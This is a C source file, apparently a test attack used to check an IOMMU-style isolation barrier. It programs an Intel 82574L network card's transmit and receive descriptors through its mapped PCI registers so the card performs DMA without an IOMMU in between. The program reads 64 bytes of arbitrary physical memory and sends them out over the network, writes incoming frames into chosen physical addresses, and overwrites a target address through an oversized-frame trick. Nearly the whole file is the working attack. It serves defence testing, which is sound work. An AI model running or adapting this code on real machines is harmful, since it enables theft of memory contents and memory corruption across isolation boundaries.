/*
 * The attack of the image dma-aimed without the wall: a user program that has the card's registers (sysfs resource0)
 * and no IOMMU in between. It must succeed, or the test of the wall proves nothing.
 *
 *   bare-dma ADDRESS read     sends 64 bytes of physical memory by the wire
 *   bare-dma ADDRESS write    receives the next frames of the wire into physical memory
 *   bare-dma ADDRESS interrupt   receives a frame of 272 bytes for the card itself: its last 16 go to the address
 *
 * Registers: 82574L datasheet, 10.2.5 and 10.2.6; descriptors 7.1.4 and 7.2.10. Root; bus mastering must be on.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { CTRL = 0x0, RCTL = 0x100, TCTL = 0x400, RDBAL = 0x2800, TDBAL = 0x3800, LENGTH = 8, HEAD = 0x10, TAIL = 0x18 };

static volatile uint32_t *registers;

static void set(int at, uint32_t value) {
    registers[at / 4] = value;
}

static uint64_t physical(const void *memory) {
    uint64_t entry = 0;
    int fd = open("/proc/self/pagemap", O_RDONLY);
    if (fd < 0 || pread(fd, &entry, 8, (off_t)((uint64_t)memory / 4096 * 8)) != 8) {
        exit(1);
    }
    close(fd);
    return (entry & ((1ull << 55) - 1)) * 4096;
}

static void ring(int base, const void *memory) {
    uint64_t at = physical(memory);
    set(base, (uint32_t)at);
    set(base + 4, (uint32_t)(at >> 32));
    set(base + LENGTH, 8 * 16);
    set(base + HEAD, 0);
    set(base + TAIL, 0);
}

int main(int count, char **words) {
    int fd = open("/sys/bus/pci/devices/0000:03:00.0/resource0", O_RDWR | O_SYNC);
    uint64_t *memory = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
    void *bar = fd < 0 ? MAP_FAILED : mmap(0, 128 << 10, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (count != 3 || bar == MAP_FAILED || memory == MAP_FAILED) {
        fprintf(stderr, "usage: bare-dma ADDRESS read|write|interrupt, with the card at 0000:03:00.0 enabled\n");
        return 2;
    }
    registers = bar;
    uint64_t target = strtoull(words[1], 0, 0);
    memset(memory, 0, 4096);
    set(CTRL, 1u << 26); /* RST */
    usleep(100000);
    set(CTRL, 1u << 6 | 1u << 5); /* SLU, ASDE */
    usleep(2000000);
    if (strcmp(words[2], "read") == 0) {
        ring(TDBAL, memory);
        memory[0] = target;
        memory[1] = 64 | 0x0bull << 24; /* 64 bytes; EOP, IFCS, RS */
        set(TCTL, 1u << 1 | 1u << 3);
        set(TDBAL + TAIL, 1);
    } else if (strcmp(words[2], "interrupt") == 0) {
        ring(RDBAL, memory);
        memory[0] = physical(memory) + 2048;
        memory[2] = target;
        set(RDBAL + TAIL, 2);
        set(RCTL, 1u << 1 | 3u << 16 | 1u << 26); /* EN, BSIZE of 256 bytes, SECRC */
    } else {
        ring(RDBAL, memory);
        for (int i = 0; i < 8; i++) {
            memory[2 * i] = target;
        }
        set(RCTL, 1u << 1 | 1u << 3 | 1u << 4 | 1u << 15); /* EN, UPE, MPE, BAM */
        set(RDBAL + TAIL, 7);
    }
    usleep(5000000);
    set(RCTL, 0);
    set(TCTL, 0);
    return 0;
}
